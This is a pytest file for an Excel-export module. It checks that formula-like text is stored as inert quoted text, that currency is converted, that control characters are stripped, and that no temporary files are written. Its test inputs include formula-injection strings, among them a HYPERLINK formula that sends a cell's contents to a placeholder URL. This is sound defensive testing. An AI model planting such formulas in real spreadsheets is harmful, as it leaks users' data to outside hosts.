"""sync.xlsx cell rules on their own: formula-like text stays text, yuan from fen, control characters."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from sync.xlsx import Column, Table, save, write_workbook

RISKY = ["=1+1", "+1", "-2", "@A1", "\tx", "\rdel", '=HYPERLINK("http://x"&C2,"点此核对")']


def test_cells_follow_the_rules(tmp_path: Path) -> None:
    columns = [Column("文本"), Column("金额（元）", "yuan"), Column("数量", "int"), Column("比例", "share")]
    rows = [[text, 4_465_900, 3, 0.125] for text in RISKY]
    rows.append(["a\x01b\x1fc", -150, None, None])
    rows.append([12345678901234567, 1, 2, 0.5])  # a number in a text column is written as text
    out = tmp_path / "t.xlsx"
    assert write_workbook(out, [Table("表", columns, rows)]) == {"表": len(rows)}
    sheet = load_workbook(out)["表"]
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["A"].width == 14
    assert [c.value for c in sheet[1]] == ["文本", "金额（元）", "数量", "比例"]
    for i, text in enumerate(RISKY, start=2):
        cell = sheet.cell(row=i, column=1)
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value == text.replace("\r", "\n")  # XML reads a lone CR as a line break
        assert sheet.cell(row=i, column=2).value == 44_659
        assert sheet.cell(row=i, column=2).number_format == "#,##0.00"
        assert sheet.cell(row=i, column=4).number_format == "0.0%"
    last = len(RISKY) + 2
    assert sheet.cell(row=last, column=1).value == "abc" and sheet.cell(row=last, column=2).value == -1.5
    big = sheet.cell(row=last + 1, column=1)
    assert big.value == "12345678901234567" and big.data_type == "s"


def test_no_temporary_file_is_written(tmp_path: Path, monkeypatch) -> None:
    import tempfile

    from openpyxl import Workbook

    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    # openpyxl's own save goes through the temp folder (this is what we guard against) ...
    Workbook(write_only=True).save(str(tmp_path / "stock.xlsx"))
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(["身份证号 in a temp file"])
    book.save(str(tmp_path / "stock2.xlsx"))
    assert list(temp.iterdir()) == []  # openpyxl removes its file after the save, but it was there:
    # ... so watch the creation itself.
    made: list[str] = []
    real = tempfile.NamedTemporaryFile

    def spy(*args, **kwargs):
        handle = real(*args, **kwargs)
        made.append(handle.name)
        return handle

    monkeypatch.setattr("openpyxl.worksheet._writer.NamedTemporaryFile", spy)
    book = Workbook(write_only=True)
    book.create_sheet("x").append(["a"])
    book.save(str(tmp_path / "stock3.xlsx"))
    assert len(made) == 1  # the stock path does make one
    made.clear()
    rows = [["张三", "530102198001010011"]] * 50
    write_workbook(tmp_path / "ours.xlsx", [Table("表", [Column("姓名"), Column("身份证号")], rows),
                                            Table("空", [Column("无")], [])])  # fmt: skip
    assert made == [] and list(temp.iterdir()) == []
    assert load_workbook(tmp_path / "ours.xlsx")["表"].max_row == 51
    full = Workbook()  # a normal (not write-only) workbook, as the roster template is
    full.active.append(["模板"])  # type: ignore[union-attr]
    save(full, tmp_path / "template.xlsx")
    assert made == [] and load_workbook(tmp_path / "template.xlsx").active["A1"].value == "模板"
